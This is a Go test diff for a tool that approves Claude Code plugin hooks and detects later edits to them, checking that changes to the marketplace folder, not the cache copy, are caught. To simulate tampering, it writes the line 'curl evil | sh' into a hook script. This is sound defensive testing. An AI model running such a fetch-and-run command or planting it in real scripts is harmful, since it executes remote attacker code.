@@ -1,6 +1,7 @@
 package main
 
 import (
+	"encoding/json"
 	"os"
 	"os/exec"
 	"path/filepath"
@@ -38,3 +39,53 @@ func TestClaudeInstalled(t *testing.T) {
 		t.Errorf("no SOURCE and no --claude: exit %d %q", code, errOut)
 	}
 }
+
+// Claude Code reads a plugin installed from a local-folder marketplace from that folder,
+// not from its cache copy (observed with 2.1.328): --claude must review and bind the
+// folder, so an edit there makes check fail, and an edit to the unused cache copy does not.
+func TestClaudeInstalledReadsWhatRuns(t *testing.T) {
+	home, cfg, market := t.TempDir(), t.TempDir(), filepath.Join(t.TempDir(), "market")
+	if out, err := exec.Command("cp", "-r", filepath.Join("..", "..", "examples", "claude-code", "marketplace"), market).CombinedOutput(); err != nil {
+		t.Fatalf("%v %s", err, out)
+	}
+	cache := filepath.Join(cfg, "plugins", "cache", "example-tools", "format-on-save", "0.1.0")
+	if out, err := exec.Command("cp", "-r", filepath.Join(market, "plugins", "format-on-save"), cache).CombinedOutput(); err != nil {
+		// cp -r needs the parent.
+		os.MkdirAll(filepath.Dir(cache), 0o755)
+		if out, err = exec.Command("cp", "-r", filepath.Join(market, "plugins", "format-on-save"), cache).CombinedOutput(); err != nil {
+			t.Fatalf("%v %s", err, out)
+		}
+	}
+	writeTree(t, filepath.Join(cfg, "plugins"), map[string]string{
+		"installed_plugins.json":  `{"version":2,"plugins":{"format-on-save@example-tools":[{"scope":"user","installPath":` + quoteJSON(cache) + `,"version":"0.1.0"}]}}`,
+		"known_marketplaces.json": `{"example-tools":{"source":{"source":"directory","path":` + quoteJSON(market) + `},"installLocation":` + quoteJSON(market) + `}}`,
+	})
+	writeTree(t, cfg, map[string]string{"settings.json": `{"enabledPlugins":{"format-on-save@example-tools":true}}`})
+	t.Setenv("CLAUDE_CONFIG_DIR", cfg)
+	code, out, errs := runVouch(t, home, "status", "--claude")
+	expect(t, "status --claude", code, 0, out, errs)
+	for _, want := range []string{"format-on-save@example-tools", "enabled by " + filepath.Join(cfg, "settings.json"), filepath.Join(market, "plugins", "format-on-save")} {
+		if !strings.Contains(out, want) {
+			t.Fatalf("status --claude lacks %q:\n%s", want, out)
+		}
+	}
+	src := filepath.Join(cfg, "plugins")
+	const hook = "format-on-save#hook:PostToolUse:0:0"
+	code, out, errs = trustRun(t, home, "approve", "--yes", src, hook)
+	expect(t, "approve", code, 0, out, errs)
+	code, out, errs = trustRun(t, home, "check", src, hook)
+	expect(t, "check approved", code, 0, out, errs)
+	// The cache copy is not what runs: editing it changes nothing.
+	editByte(t, filepath.Join(cache, "scripts", "format.sh"), "#", "# cache copy edited\n#")
+	code, out, errs = trustRun(t, home, "check", src, hook)
+	expect(t, "check after a cache edit", code, 0, out, errs)
+	// The marketplace folder is: check fails.
+	editByte(t, filepath.Join(market, "plugins", "format-on-save", "scripts", "format.sh"), "#", "# curl evil | sh\n#")
+	if s := statusOf(t, home, src, hook); s != "changed" {
+		t.Fatalf("hook is %s after the folder Claude reads it from changed", s)
+	}
+	code, out, errs = trustRun(t, home, "check", src, hook)
+	expect(t, "check after the folder changed", code, 1, out, errs)
+}
+
+func quoteJSON(s string) string { b, _ := json.Marshal(s); return string(b) }
